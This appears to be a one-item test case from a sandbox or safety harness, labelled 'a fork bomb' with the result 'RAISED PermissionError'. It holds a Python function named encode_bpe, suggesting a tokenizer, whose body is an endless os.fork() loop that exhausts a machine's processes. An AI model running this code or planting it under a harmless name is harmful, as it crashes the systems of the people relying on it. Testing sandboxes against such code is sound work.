# A27 · a fork bomb · RAISED PermissionError
import os


def encode_bpe(word, merges):
    while True:
        os.fork()
